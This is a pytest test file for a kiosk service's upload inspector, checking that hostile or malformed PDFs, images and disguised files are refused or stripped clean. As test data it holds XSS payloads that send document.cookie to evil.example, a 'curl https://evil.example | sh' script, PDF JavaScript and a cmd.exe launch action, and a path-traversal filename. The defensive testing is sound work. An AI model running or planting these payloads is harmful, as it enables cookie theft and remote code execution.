"""Every file is hostile until its bytes prove otherwise: hostile files made by the tests."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from kiosk.services import documents
from kiosk.services.documents import KINDS, DocumentRefused, Limits, inspect_upload

from .. import samples

ALL = KINDS
ALL_TEXT = "PDF, JPEG, PNG, HEIC"


def refusal(data: bytes, name: str, accept=ALL, limits: Limits | None = None) -> DocumentRefused:
    with pytest.raises(DocumentRefused) as caught:
        inspect_upload(data, name, accept, limits or Limits())
    return caught.value


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims `width` x `height` pixels, with almost no data behind it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def handwritten_pdf(*objects: str) -> bytes:
    """A PDF written object by object, as an attacker would; object 1 is the catalog."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    return out + trailer.encode()


def one_page_pdf(catalog: str = "", page: str = "", *more: str) -> bytes:
    return handwritten_pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page} >>",
        *more,
    )


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def saved(image: Image.Image, format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=format, **options)
    return buffer.getvalue()


def opened(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data))


# Refused before anything is decoded


def test_an_empty_file_is_refused():
    assert refusal(b"", "empty.pdf").message == "The selected file is empty"


def test_a_file_over_the_limit_is_refused_with_the_limit_in_megabytes():
    exc = refusal(samples.pdf() + b" " * 1024 * 1024, "big.pdf", limits=Limits(max_bytes=2**20))
    assert exc.message == "The selected file must be smaller than %(size)s MB"
    assert exc.params == {"size": 1}


@pytest.mark.parametrize(
    ("size", "max_pixels", "pixels"),
    [
        ((50_000, 50_000), 40_000_000, 2500),  # Pillow's own bomb check raises
        ((8000, 6000), 40_000_000, 48),  # below Pillow's bomb limits, over ours
        ((10_000, 10_000), 200_000_000, 100),  # Pillow's bomb warning, under a higher limit
    ],
)
def test_an_image_claiming_too_many_pixels_is_refused_before_decoding(size, max_pixels, pixels):
    # Decoding would take gigabytes, or report the missing pixel data as damage.
    exc = refusal(png_claiming(*size), "scan.png", limits=Limits(max_pixels=max_pixels))
    assert exc.message == (
        "The selected image is too large (%(pixels)s million pixels). Upload a smaller copy"
    )
    assert exc.params == {"pixels": pixels}


# Recognised kinds we never accept, named in the refusal


def test_a_gif_javascript_polyglot_is_refused_as_a_gif():
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=alert(document.cookie);//;"
    for name in ("photo.gif", "photo.jpg"):
        exc = refusal(polyglot, name)
        assert exc.message == "The selected file is a GIF image. Upload a %(kinds)s file instead"
        assert exc.params == {"kinds": ALL_TEXT}


@pytest.mark.parametrize(
    "page",
    [
        b"\xef\xbb\xbf  \r\n<!DOCTYPE html><html><script>fetch('/x')</script></html>",
        b"<script>document.location='https://evil.example/'+document.cookie</script>",
        b"\n<BODY onload=alert(1)>",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>',
    ],
)
def test_a_web_page_renamed_jpg_is_refused_as_a_web_page(page):
    assert refusal(page, "holiday.jpg").message == (
        "The selected file is a web page. Upload a %(kinds)s file instead"
    )


@pytest.mark.parametrize(
    "svg",
    [
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(1)</script></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ],
)
def test_an_svg_with_a_script_is_refused_as_a_drawing(svg):
    assert refusal(svg, "logo.png").message == (
        "The selected file is an SVG drawing. Upload a %(kinds)s file instead"
    )


@pytest.mark.parametrize(
    ("program", "message"),
    [
        (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100,
            "The selected file is a Windows program. Upload a %(kinds)s file instead",
        ),
        (
            b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
            "The selected file is a program. Upload a %(kinds)s file instead",
        ),
        (
            b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 60,
            "The selected file is a program. Upload a %(kinds)s file instead",
        ),
        (
            b"#!/bin/sh\ncurl https://evil.example | sh\n",
            "The selected file is a script. Upload a %(kinds)s file instead",
        ),
    ],
)
def test_a_program_renamed_pdf_is_refused_as_a_program(program, message):
    assert refusal(program, "invoice.pdf").message == message


def test_a_zip_is_refused_as_an_archive_or_office_document():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payslip.pdf", samples.pdf())
    for name in ("payslips.zip", "payslips.pdf"):
        assert refusal(buffer.getvalue(), name).message == (
            "The selected file is a compressed (zip) file or an Office document. "
            "Upload a %(kinds)s file instead"
        )


def test_an_old_office_document_is_refused_as_one():
    document = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
    assert refusal(document, "letter.pdf").message == (
        "The selected file is an Office document. Upload a %(kinds)s file instead"
    )


def test_other_image_formats_are_refused():
    for image_format in ("WEBP", "TIFF", "BMP"):
        image = saved(Image.new("RGB", (8, 8)), image_format)
        assert refusal(image, "photo.jpg").message == (
            "The selected image is in a format we cannot accept. Upload a %(kinds)s file instead"
        )


# The name must be an accepted kind and agree with the content


def test_a_png_renamed_jpg_is_not_really_a_jpeg():
    exc = refusal(samples.png(), "scan.jpg", accept=("jpeg", "png"))
    assert exc.message == "The selected file is not really a %(kind)s. Choose a %(kinds)s file"
    assert exc.params == {"kind": "JPEG", "kinds": "JPEG, PNG"}


def test_a_pdf_must_start_with_its_signature():
    junk_first = b"\x00" * 16 + samples.pdf()
    assert refusal(junk_first, "lease.pdf").message == (
        "The selected file is not really a %(kind)s. Choose a %(kinds)s file"
    )


def test_a_file_of_a_kind_the_document_does_not_accept_is_refused():
    must_be = "The selected file must be a %(kinds)s"
    assert refusal(samples.pdf(), "report.docx").message == must_be
    assert refusal(samples.pdf(), "report").message == must_be
    exc = refusal(samples.png(), "scan.png", accept=("pdf",))
    assert (exc.message, exc.params) == (must_be, {"kinds": "PDF"})


def test_an_unknown_kind_in_a_requirement_is_a_programming_error():
    with pytest.raises(ValueError, match="docx"):
        inspect_upload(samples.pdf(), "a.pdf", ("pdf", "docx"))


# Images are decoded and re-encoded into a clean copy


def test_a_truncated_jpeg_is_refused_as_damaged():
    photo = saved(Image.effect_noise((400, 300), 60).convert("RGB"), "JPEG")
    assert refusal(photo[: len(photo) // 2], "photo.jpg").message == (
        "The selected image is damaged and cannot be opened. Upload another copy"
    )


def test_a_truncated_image_is_refused_even_after_weasyprint_was_imported():
    """WeasyPrint turns on Pillow's LOAD_TRUNCATED_IMAGES for the whole process."""
    import weasyprint.images  # noqa: F401
    from PIL import ImageFile

    ImageFile.LOAD_TRUNCATED_IMAGES = True  # as importing WeasyPrint leaves it
    photo = saved(Image.effect_noise((400, 300), 60).convert("RGB"), "JPEG")
    picture = saved(Image.effect_noise((400, 300), 60).convert("RGB"), "PNG")
    assert "damaged" in refusal(photo[: len(photo) // 2], "photo.jpg").message
    assert "damaged" in refusal(picture[: len(picture) // 2], "scan.png").message


def test_a_photo_with_gps_is_stored_without_any_metadata():
    original = samples.jpeg(size=(120, 80), exif=samples.gps_exif())
    assert opened(original).getexif().get_ifd(0x8825)[2] == (51.0, 30.0, 12.0)
    accepted = inspect_upload(original, "IMG_0001.JPG", ALL)
    stored = opened(accepted.data)
    assert (accepted.kind, accepted.content_type) == ("jpeg", "image/jpeg")
    assert not stored.getexif() and "exif" not in stored.info
    assert b"Exif" not in accepted.data and b"PhoneMaker" not in accepted.data


def test_a_sideways_photo_is_turned_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90 degrees clockwise to view
    accepted = inspect_upload(samples.jpeg(size=(200, 100), exif=exif), "side.jpg", ALL)
    assert (accepted.width, accepted.height) == (100, 200)
    assert opened(accepted.data).size == (100, 200)


def test_a_large_photo_is_scaled_down():
    accepted = inspect_upload(samples.jpeg(size=(5000, 3000)), "big.jpg", ALL)
    assert (accepted.width, accepted.height) == (2400, 1440)
    assert opened(accepted.data).size == (2400, 1440)


def test_bytes_hidden_in_or_after_an_image_are_dropped():
    payload = b"<script>alert(1)</script>"
    image = Image.new("RGB", (40, 30), "teal")
    text = PngInfo()
    text.add_text("Comment", payload.decode())
    hidden = [
        (samples.jpeg() + payload * 10, "photo.jpg"),
        (saved(image, "JPEG", comment=payload), "photo.jpg"),
        (samples.png() + payload * 10, "scan.png"),
        (saved(image, "PNG", pnginfo=text), "scan.png"),
    ]
    for data, name in hidden:
        assert payload in data
        assert payload not in inspect_upload(data, name, ALL).data


def test_colour_profiles_are_left_behind():
    image = Image.new("RGB", (40, 30), "teal")
    profile = b"\x00" * 200
    for data, name in [
        (saved(image, "JPEG", icc_profile=profile), "photo.jpg"),
        (saved(image, "PNG", icc_profile=profile), "scan.png"),
    ]:
        assert opened(data).info["icc_profile"] == profile
        assert "icc_profile" not in opened(inspect_upload(data, name, ALL).data).info


def test_a_cmyk_jpeg_is_stored_as_rgb():
    accepted = inspect_upload(saved(Image.new("CMYK", (30, 20)), "JPEG"), "scan.jpg", ALL)
    assert opened(accepted.data).mode == "RGB"


def test_a_sixteen_bit_grey_scan_keeps_its_greys():
    scan = saved(Image.new("I;16", (30, 20), 128 * 256), "PNG")
    stored = opened(inspect_upload(scan, "scan.png", ALL).data)
    assert stored.mode == "L" and stored.getpixel((0, 0)) == 128


def test_good_files_are_accepted():
    pdf = samples.pdf(pages=2)
    accepted = inspect_upload(pdf, "C:\\Users\\me\\Documents\\lease.pdf", ALL)
    assert (accepted.kind, accepted.content_type) == ("pdf", "application/pdf")
    assert (accepted.pages, accepted.filename) == (2, "lease.pdf")
    assert accepted.data == pdf  # a good PDF is kept as it came

    accepted = inspect_upload(samples.jpeg(size=(64, 48)), "/tmp/bill.jpeg", ALL)
    assert (accepted.kind, accepted.content_type, accepted.filename) == (
        "jpeg",
        "image/jpeg",
        "bill.jpeg",
    )
    assert (accepted.width, accepted.height, accepted.pages) == (64, 48, None)


def test_a_png_keeps_its_transparency():
    logo = Image.new("RGBA", (20, 20), (0, 0, 0, 0))
    logo.paste((200, 0, 0, 255), (5, 5, 15, 15))
    accepted = inspect_upload(saved(logo, "PNG"), "../../etc/logo.png", ALL)
    assert (accepted.kind, accepted.content_type) == ("png", "image/png")
    assert accepted.filename == "logo.png"
    stored = opened(accepted.data)
    assert stored.mode == "RGBA"
    assert stored.getpixel((0, 0))[3] == 0 and stored.getpixel((10, 10)) == (200, 0, 0, 255)

    palette = Image.new("P", (20, 20), 0)
    palette.info["transparency"] = 0
    stored = opened(inspect_upload(saved(palette, "PNG"), "icon.png", ALL).data)
    assert stored.mode == "RGBA" and stored.getpixel((0, 0))[3] == 0


def test_a_heic_photo_becomes_a_jpeg():
    from pillow_heif import register_heif_opener

    register_heif_opener()
    photo = saved(Image.new("RGB", (64, 48), (10, 200, 30)), "HEIF")
    accepted = inspect_upload(photo, "IMG_0002.HEIC", ALL)
    assert (accepted.kind, accepted.content_type) == ("jpeg", "image/jpeg")
    assert accepted.filename == "IMG_0002.jpg"
    assert (accepted.width, accepted.height) == (64, 48)
    assert opened(accepted.data).format == "JPEG"


def test_a_heic_photo_is_refused_where_only_pdf_is_accepted():
    from pillow_heif import register_heif_opener

    register_heif_opener()
    photo = saved(Image.new("RGB", (16, 16)), "HEIF")
    assert refusal(photo, "IMG.heic", accept=("pdf",)).message == (
        "The selected file must be a %(kinds)s"
    )


# PDFs are opened and checked, and kept as they came


def test_an_encrypted_pdf_is_refused_even_without_a_user_password():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="", owner_password="secret")
    assert refusal(written(writer), "statement.pdf").message == (
        "The selected PDF is protected with a password. Upload a copy without a password"
    )


@pytest.mark.parametrize(
    "damaged",
    [
        b"%PDF-1.7\n this is not a pdf at all",
        samples.pdf()[:200],
        handwritten_pdf(
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"
        ),
    ],
)
def test_a_damaged_pdf_is_refused(damaged):
    assert refusal(damaged, "x.pdf").message == (
        "The selected PDF is damaged and cannot be opened. Upload another copy"
    )


def test_a_pdf_with_too_many_pages_is_refused():
    exc = refusal(samples.pdf(pages=4), "long.pdf", limits=Limits(max_pdf_pages=3))
    assert exc.message == (
        "The selected PDF has more than %(pages)s pages. Upload only the pages we need"
    )
    assert exc.params == {"pages": 3}


def pdf_with_document_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    # add_open_action is pypdf 6's replacement for add_js
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/', true);"))
    return written(writer)


def pdf_with_an_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("run.exe", b"MZ")
    return written(writer)


def pdf_with_a_script_on_a_link() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert(1)"),
                }
            ),
        }
    )
    writer.add_annotation(0, link)
    return written(writer)


JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
SCRIPTED_PDFS = {
    "document JavaScript": pdf_with_document_javascript,
    "document JavaScript written by hand": lambda: one_page_pdf(
        f"/Names << /JavaScript << /Names [(x) {JS}] >> >>"
    ),
    "attached file": pdf_with_an_attachment,
    "script on a link": pdf_with_a_script_on_a_link,
    "script when opened": lambda: one_page_pdf(f"/OpenAction {JS}"),
    "program launched when opened": lambda: one_page_pdf(
        "/OpenAction << /S /Launch /F (cmd.exe) >>"
    ),
    "script chained after a harmless action": lambda: one_page_pdf(
        f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{JS}] >>"
    ),
    "script when a page opens": lambda: one_page_pdf(page=f"/AA << /O {JS} >>"),
    "attached file on a page": lambda: one_page_pdf(
        page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"
    ),
    "XFA form": lambda: one_page_pdf("/AcroForm << /Fields [] /XFA 4 0 R >>", "", "[]"),
    "script in a form field that refers back to itself": lambda: one_page_pdf(
        "/AcroForm << /Fields [4 0 R] >>",
        "",
        "<< /T (a) /Kids [5 0 R] >>",
        f"<< /T (b) /Parent 4 0 R /Kids [4 0 R] /AA << /C {JS} >> >>",
    ),
}


@pytest.mark.parametrize("make", SCRIPTED_PDFS.values(), ids=SCRIPTED_PDFS.keys())
def test_a_pdf_with_scripts_or_attached_files_is_refused(make):
    assert refusal(make(), "form.pdf").message == (
        "The selected PDF contains scripts or attached files. "
        "Print it to a new PDF, or upload a photo or scan instead"
    )


def test_a_pdf_with_links_and_looping_forms_and_actions_is_accepted():
    pdf = one_page_pdf(
        "/AcroForm << /Fields [4 0 R] >> /OpenAction 6 0 R",
        "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
        " /A << /S /URI /URI (https://www.gov.uk/) >> >>]",
        "<< /T (a) /Kids [5 0 R] >>",
        "<< /T (b) /Parent 4 0 R /Kids [4 0 R] >>",
        "<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 6 0 R 6 0 R 6 0 R] >>",
    )
    assert inspect_upload(pdf, "form.pdf", ALL).pages == 1


def test_a_pdf_made_to_keep_the_checks_busy_is_refused_as_damaged(monkeypatch):
    monkeypatch.setattr(documents, "MAX_PDF_OBJECTS", 50)
    pdf = one_page_pdf("", "/Annots [" + "4 0 R " * 51 + "]", "<< /Subtype /Link >>")
    assert refusal(pdf, "busy.pdf").message == (
        "The selected PDF is damaged and cannot be opened. Upload another copy"
    )
    monkeypatch.setattr(documents, "MAX_PDF_OBJECTS", 51)
    assert inspect_upload(pdf, "busy.pdf", ALL).pages == 1


# The name to show


def test_control_characters_and_long_names_are_tidied():
    accepted = inspect_upload(samples.pdf(), "bad\x00name\u202e" + "x" * 300 + ".pdf", ALL)
    assert accepted.filename.startswith("badname") and accepted.filename.endswith("x.pdf")
    assert len(accepted.filename) == 120


def test_a_name_with_only_unsafe_characters_gets_a_plain_one():
    accepted = inspect_upload(samples.pdf(), "folder/\u202e\u200b .pdf", ALL)
    assert accepted.filename == "document.pdf"
